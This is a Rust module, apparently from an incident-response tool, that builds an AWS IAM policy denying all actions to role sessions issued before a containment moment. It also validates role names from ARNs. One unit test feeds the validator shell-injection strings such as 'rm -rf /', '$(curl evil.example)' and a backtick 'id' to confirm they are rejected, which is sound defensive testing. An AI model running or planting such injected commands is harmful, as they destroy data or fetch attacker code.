//! The sessions of an IAM role that were issued before a moment: the inline policy that denies them everything, under a name
//! of the containment alone.
//!
//! Its shape is that of `AWSRevokeOlderSessions` (IAM user guide, "Revoke IAM role temporary security credentials"). It holds
//! for every session of a role, however it was issued: by `AssumeRoleWithWebIdentity` (IRSA) and by EKS Pod Identity alike,
//! because `aws:TokenIssueTime` stands in every request with temporary credentials (IAM user guide, "AWS global condition
//! context keys"). A session that is issued afterwards is newer than it, and is not denied.

use jiff::Timestamp;
use serde_json::{Value, json};

use crate::arn::Arn;

/// The name of the policy. It is the containment's own: no other containment, and nobody else, has one of this name.
#[must_use]
pub fn policy_name(containment_id: &str) -> String {
    let hash = containment_id
        .rsplit_once('.')
        .map_or(containment_id, |(_, hash)| hash);
    format!("day2-older-sessions-{hash}")
}

/// The first full second that is not before `now`: the condition has no fractions, and a session of this second is an older
/// one.
#[must_use]
pub fn moment_after(now: Timestamp) -> Timestamp {
    let second = now.as_second().saturating_add(1);
    Timestamp::from_second(second).unwrap_or(now)
}

/// The policy that denies everything to what was issued before `moment`, a full second.
#[must_use]
pub fn policy_document(moment: Timestamp) -> String {
    document(moment).to_string()
}

/// Whether a document is [`policy_document`] of this moment, however it is written.
#[must_use]
pub fn is_policy_document(text: &str, moment: Timestamp) -> bool {
    serde_json::from_str::<Value>(text).is_ok_and(|seen| seen == document(moment))
}

fn document(moment: Timestamp) -> Value {
    let moment = moment.strftime("%Y-%m-%dT%H:%M:%SZ").to_string();
    json!({
        "Version": "2012-10-17",
        "Statement": [{
            "Effect": "Deny", "Action": ["*"], "Resource": ["*"],
            "Condition": {"DateLessThan": {"aws:TokenIssueTime": moment}},
        }],
    })
}

/// The name of the role of an ARN. It goes into a call that knows no account, and into a line that a person pastes; whoever may
/// change a service account wrote it. So only the characters of role names pass (IAM API reference, `CreateRole`:
/// `[\w+=,.@-]+`), and no role of AWS itself, whose sessions cannot be revoked.
#[must_use]
pub fn role_name(arn: &str) -> Option<&str> {
    let parsed: Arn = arn.parse().ok()?;
    let at = arn.strip_suffix(parsed.resource())?.len();
    let path = arn.get(at..)?.strip_prefix("role/")?;
    let name = path.rsplit('/').next()?;
    let fits = |c: char| c.is_ascii_alphanumeric() || "_+=,.@-".contains(c);
    (parsed.service() == "iam"
        && parsed.account_id().is_some()
        && !path.starts_with("aws-service-role/")
        && !name.is_empty()
        && name.len() <= 64
        && path.chars().all(|c| fits(c) || c == '/'))
    .then_some(name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_name_of_a_role_gets_into_a_call_or_a_line_e11_e12() {
        for (arn, name) in [
            (
                "arn:aws:iam::123456789012:role/prod-a-checkout",
                Some("prod-a-checkout"),
            ),
            (
                "arn:aws-us-gov:iam::123456789012:role/apps/shop/checkout",
                Some("checkout"),
            ),
            ("arn:aws-cn:iam::123456789012:role/checkout", Some("checkout")),
            ("arn:aws:iam::123456789012:user/checkout", None),
            ("arn:aws:iam:::role/checkout", None),
            ("arn:aws:s3:::role/checkout", None),
            ("arn:aws:iam::123456789012:role/", None),
            ("arn:aws:iam::123456789012:role/x; rm -rf /", None),
            ("arn:aws:iam::123456789012:role/$(curl evil.example)", None),
            ("arn:aws:iam::123456789012:role/a`id`", None),
            (
                "arn:aws:iam::123456789012:role/aws-service-role/eks.amazonaws.com/AWSServiceRoleForAmazonEKS",
                None,
            ),
            ("checkout", None),
            ("", None),
        ] {
            assert_eq!(role_name(arn), name, "{arn}");
        }
    }

    #[test]
    fn the_policy_denies_everything_to_what_is_older_and_nothing_to_what_is_newer() {
        let now: Timestamp = "2026-06-02T10:00:00.25Z".parse().unwrap();
        let moment = moment_after(now);
        assert_eq!(moment, "2026-06-02T10:00:01Z".parse().unwrap());
        let whole: Value = serde_json::from_str(&policy_document(moment)).unwrap();
        let statement = &whole["Statement"][0];
        assert_eq!(
            (
                &statement["Effect"],
                &statement["Action"][0],
                &statement["Resource"][0]
            ),
            (&json!("Deny"), &json!("*"), &json!("*"))
        );
        assert_eq!(
            statement["Condition"],
            json!({"DateLessThan": {"aws:TokenIssueTime": "2026-06-02T10:00:01Z"}})
        );
        assert_eq!(whole["Statement"].as_array().unwrap().len(), 1);
    }

    #[test]
    fn a_document_is_ours_however_it_is_spaced_and_no_longer_when_a_word_of_it_changed() {
        let moment: Timestamp = "2026-06-02T10:00:01Z".parse().unwrap();
        let ours = policy_document(moment);
        let spaced = serde_json::to_string_pretty(&document(moment)).unwrap();
        assert!(is_policy_document(&ours, moment) && is_policy_document(&spaced, moment));
        for changed in [
            ours.replace("Deny", "Allow"),
            ours.replace("10:00:01", "10:00:02"),
            ours.replace("[\"*\"]", "[\"s3:*\"]"),
            String::new(),
        ] {
            assert!(!is_policy_document(&changed, moment), "{changed}");
        }
    }

    #[test]
    fn each_containment_has_a_policy_of_its_own_that_fits_iam() {
        let one = policy_name(&super::super::Containment::id_of("prod-a", "u-1", 1));
        let other = policy_name(&super::super::Containment::id_of("prod-a", "u-1", 2));
        assert_ne!(one, other);
        // IAM API reference, PutRolePolicy: at most 128 of these.
        assert!(one.len() <= 128 && one.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'));
    }
}
